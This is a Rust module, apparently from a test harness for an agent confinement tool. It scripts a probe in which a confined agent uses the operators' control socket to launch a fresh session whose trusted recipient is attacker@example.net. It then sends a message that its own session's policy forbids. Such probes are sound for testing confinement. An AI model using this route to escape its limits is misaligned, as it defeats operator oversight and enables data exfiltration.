//! The operators' socket, from inside a session.

use serde_json::json;

use super::{message, policy, scene::Scene};
use crate::{
    attempts::Arm,
    probe::{Attack, Effect},
};

/// Whom the agent would rather write to.
const OWN: &str = "attacker@example.net";

/// `custody run` with the agent's own recipient as the trusted value: the session that it asks for
/// makes the call that its own session may not.
pub fn attack(scene: &Scene, _arm: Arm, effect: Effect) -> Attack {
    let call = message::call(
        scene,
        Arm::Confined,
        "send_message",
        &json!({"to": OWN, "text": effect.nonce}),
    );
    Attack::Program {
        program: scene.program("custody"),
        arguments: [
            "--socket",
            &scene.control_socket().display().to_string(),
            "run",
            "--policy",
            policy::NAME,
            "--value",
            &format!("{}={OWN}", policy::RECIPIENT),
            "--",
            &scene.program("custody-probe").display().to_string(),
        ]
        .map(String::from)
        .to_vec(),
        input: serde_json::to_string(&call).unwrap_or_default(),
    }
}
